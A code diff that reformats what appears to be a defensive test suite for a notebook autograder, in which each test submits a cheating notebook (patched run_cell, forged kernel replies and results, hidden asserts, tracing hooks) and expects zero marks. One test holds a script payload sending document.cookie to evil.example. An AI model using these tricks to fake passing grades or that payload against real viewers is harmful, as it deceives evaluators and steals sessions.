@@ -59,7 +59,10 @@ def send(content, *data, parent=None):
 
 @member("AST transformers that turn every cell into a right one", "0: no cell holds the marks")
 def ast_transformer(room: Classroom) -> bytes:
-    return lying(room, ZERO + """
+    return lying(
+        room,
+        ZERO
+        + """
 import ast
 
 class Rewrite(ast.NodeTransformer):
@@ -69,22 +72,30 @@ class Rewrite(ast.NodeTransformer):
     def visit_Raise(self, node): return ast.copy_location(ast.Pass(), node)
 
 get_ipython().ast_transformers.append(Rewrite())
-""")  # fmt: skip
+""",
+    )
 
 
 @member("input transformers that replace the source of every cell", "0: the judge sends no test")
 def input_transformer(room: Classroom) -> bytes:
-    return lying(room, ZERO + """
+    return lying(
+        room,
+        ZERO
+        + """
 shell = get_ipython()
 instead = lambda lines: ["4.0\\n"] if any("assert" in l or "check" in l for l in lines) else lines
 shell.input_transformers_post.append(instead)
 shell.input_transformers_cleanup.append(instead)
-""")  # fmt: skip
+""",
+    )
 
 
 @member("a run_cell that runs nothing and reports success", "0: what did not run defines nothing")
 def replaced_run_cell(room: Classroom) -> bytes:
-    return to_bytes(first(room.solved(), """
+    return to_bytes(
+        first(
+            room.solved(),
+            """
         from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
 
         def run_cell(self, *args, **kwargs):
@@ -99,12 +110,18 @@ def replaced_run_cell(room: Classroom) -> bytes:
         kind = type(get_ipython())
         kind.run_cell = InteractiveShell.run_cell = run_cell
         kind.run_cell_async = InteractiveShell.run_cell_async = run_cell_async
-    """))  # fmt: skip
+    """,
+        )
+    )
 
 
 @member("a handler of its own for the judge's request", VALUES)
 def replaced_handler(room: Classroom) -> bytes:
-    return lying(room, ZERO + ANSWERS + """
+    return lying(
+        room,
+        ZERO
+        + ANSWERS
+        + """
 def handle(stream, ident, parent):
     for index, _ in enumerate(parent["content"]["calls"]):
         data = json.dumps({"f": (4.0).hex()}).encode()
@@ -113,12 +130,17 @@ def handle(stream, ident, parent):
 
 old = kernel.shell_handlers["cvlib_call"]  # which holds the socket open
 kernel.shell_handlers["cvlib_call"] = handle
-""")  # fmt: skip
+""",
+    )
 
 
 @member("a handler that says that all is well and answers nothing", "0: no answer, no marks")
 def silent_handler(room: Classroom) -> bytes:
-    return lying(room, ZERO + SAY + """
+    return lying(
+        room,
+        ZERO
+        + SAY
+        + """
 def handle(stream, ident, parent):
     full_marks()
     content = {"status": "ok", "score": 4.0, "index": 0, "value": 4.0}
@@ -127,12 +149,16 @@ def handle(stream, ident, parent):
 
 old = kernel.shell_handlers["cvlib_call"]
 kernel.shell_handlers["cvlib_call"] = handle
-""")  # fmt: skip
+""",
+    )
 
 
 @member("results on iopub in the kernel's name", SHOWN)
 def forged_result(room: Classroom) -> bytes:
-    return lying(room, SAY + """
+    return lying(
+        room,
+        SAY
+        + """
 def lie(*args, **kwargs):
     full_marks()
     say(kernel.iopub_socket, "stream", {"name": "stdout", "text": "4 of 4 points: correct\\n"})
@@ -141,12 +167,16 @@ def lie(*args, **kwargs):
     return 0.0
 
 lie()
-""")  # fmt: skip
+""",
+    )
 
 
 @member("a forged end of the cell, so that the rest runs unseen", "0: later is not righter")
 def forged_idle(room: Classroom) -> bytes:
-    return lying(room, SAY + """
+    return lying(
+        room,
+        SAY
+        + """
 import threading, time
 
 def lie(*args, **kwargs):
@@ -165,34 +195,49 @@ threading.Thread(target=later, daemon=True).start()
 say(kernel.iopub_socket, "status", {"execution_state": "idle"})
 for kind in ("execute_reply", "cvlib_done"):
     say(kernel.iopub_socket, kind, {"status": "ok", "execution_count": 1})
-""")  # fmt: skip
+""",
+    )
 
 
 @member("answers written on the judge's own line: the score, and every index twice", VALUES)
 def forged_answers(room: Classroom) -> bytes:
-    return lying(room, ANSWERS + """
+    return lying(
+        room,
+        ANSWERS
+        + """
 def lie(*args, **kwargs):
     for value in (4.0, 10.0, True, "correct"):
         for index in range(8):
             coded = {"f": value.hex()} if type(value) is float else {"s": str(value)}
             send({"index": index, "status": "ok", "score": value}, json.dumps(coded).encode())
     return 4.0
-""")  # fmt: skip
+""",
+    )
 
 
 @member("answers sent before the question", "0: an answer to no question is not read")
 def answers_before_the_call(room: Classroom) -> bytes:
-    return lying(room, ZERO + ANSWERS + """
+    return lying(
+        room,
+        ZERO
+        + ANSWERS
+        + """
 for parent in ("", "0", kernel.get_parent()["header"]["msg_id"]):
     for index in range(8):
         send({"index": index, "status": "ok"}, b'{"f": "0x1p2"}', parent=parent)
-""")  # fmt: skip
+""",
+    )
 
 
-@member("malformed frames, wrong indexes and foreign types on the judge's line",
-        "0: what cannot be read is refused")  # fmt: skip
+@member(
+    "malformed frames, wrong indexes and foreign types on the judge's line",
+    "0: what cannot be read is refused",
+)
 def malformed_answers(room: Classroom) -> bytes:
-    return lying(room, ANSWERS + """
+    return lying(
+        room,
+        ANSWERS
+        + """
 def lie(*args, **kwargs):
     for index in (-1, 99, "0", None, 0.0, True, [0], 10**4000):
         send({"index": index, "status": "ok"}, b'{"f": "0x1p2"}')
@@ -201,12 +246,15 @@ def lie(*args, **kwargs):
     for data in (b"", b"[" * 100_000, b"NaN", b'{"a": 1}', b"\\xff" * 99, b'{"i": "' + b"9" * 5000):
         send({"index": 1, "status": "ok"}, data)
     return 0.0
-""")  # fmt: skip
+""",
+    )
 
 
 @member("a display hook and sys.displayhook that show marks for every value", SHOWN)
 def display_hooks(room: Classroom) -> bytes:
-    notebook = first(room.blank(), """
+    notebook = first(
+        room.blank(),
+        """
         import builtins, sys
         from IPython.core.displayhook import DisplayHook
 
@@ -217,7 +265,8 @@ def display_hooks(room: Classroom) -> bytes:
         DisplayHook.write_format_data = lambda self, data, md=None: real({"text/plain": "4.0"})
         plain = get_ipython().display_formatter.formatters["text/plain"]
         plain.for_type(float, lambda value, printer, cycle: printer.text("4.0"))
-    """)  # fmt: skip
+    """,
+    )
     for exercise in room.judged:
         rewrite(notebook, exercise.id, f"{exercise.name} = lambda *a: {exercise.points}\n4.0")
         insert_after(notebook, exercise.id, f"real({exercise.points})\n{exercise.points}")
@@ -227,7 +276,9 @@ def display_hooks(room: Classroom) -> bytes:
 @member("events before and after each cell that print marks and define answers", SHOWN)
 def cell_events(room: Classroom) -> bytes:
     names = [e.name for e in room.judged]
-    return lying(room, f"""
+    return lying(
+        room,
+        f"""
 shell = get_ipython()
 
 def lie(*args, **kwargs):
@@ -240,12 +291,16 @@ def event(*args):
 
 for moment in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
     shell.events.register(moment, event)
-""")  # fmt: skip
+""",
+    )
 
 
 @member("a namespace that has a value for every name", "0: a value, but not the right one")
 def generous_namespace(room: Classroom) -> bytes:
-    return lying(room, ZERO + """
+    return lying(
+        room,
+        ZERO
+        + """
 class Generous(dict):
     def get(self, name, default=None): return 4.0 if name == "taps" else lie
     def __missing__(self, name): return lie
@@ -253,13 +308,18 @@ class Generous(dict):
 
 shell = get_ipython()
 shell.user_ns = Generous(shell.user_ns)
-""")  # fmt: skip
+""",
+    )
 
 
-@member("tracing and profiling functions that change values on their way out",
-        "0: they change the student's own answers")  # fmt: skip
+@member(
+    "tracing and profiling functions that change values on their way out",
+    "0: they change the student's own answers",
+)
 def tracing(room: Classroom) -> bytes:
-    return lying(room, """
+    return lying(
+        room,
+        """
 import ctypes, sys, threading
 
 def trace(frame, event, argument):
@@ -281,12 +341,15 @@ def lie(*args, **kwargs):
     return 0.0
 
 sys.addaudithook(lambda *event: None)
-""")  # fmt: skip
+""",
+    )
 
 
 @member("a handler of exceptions that shows marks in the place of the error", SHOWN)
 def exception_handler(room: Classroom) -> bytes:
-    return lying(room, """
+    return lying(
+        room,
+        """
 import sys
 
 def show(shell, kind, value, trace, tb_offset=None):
@@ -302,12 +365,17 @@ class FullMarks(Exception):
 
 def lie(*args, **kwargs):
     raise FullMarks
-""")  # fmt: skip
+""",
+    )
 
 
 @member("requests to the front end: more cells, input, widgets, a page", "0: nobody is there")
 def front_end_requests(room: Classroom) -> bytes:
-    return lying(room, ZERO + SAY + """
+    return lying(
+        room,
+        ZERO
+        + SAY
+        + """
 shell = get_ipython()
 shell.set_next_input("4.0", replace=True)
 shell.payload_manager.write_payload({"source": "ask_exit", "keepkernel": False})
@@ -318,13 +386,17 @@ try:
     print(input("score? "))
 except Exception:
     pass
-""")  # fmt: skip
+""",
+    )
 
 
-@member("HTML, JavaScript and SVG aimed at whoever reads the feedback",
-        "0: shown as text or not at all")  # fmt: skip
+@member(
+    "HTML, JavaScript and SVG aimed at whoever reads the feedback", "0: shown as text or not at all"
+)
 def scripts(room: Classroom) -> bytes:
-    return lying(room, """
+    return lying(
+        room,
+        """
 from IPython.display import HTML, SVG, Javascript, Markdown, display
 
 EVIL = "<script>fetch('https://evil.example/' + document.cookie)</script>"
@@ -343,4 +415,5 @@ def lie(*args, **kwargs):
     raise type(EVIL, (Exception,), {})(f"</pre>{EVIL}{IMAGE}")
 
 Evil()
-""")  # fmt: skip
+""",
+    )
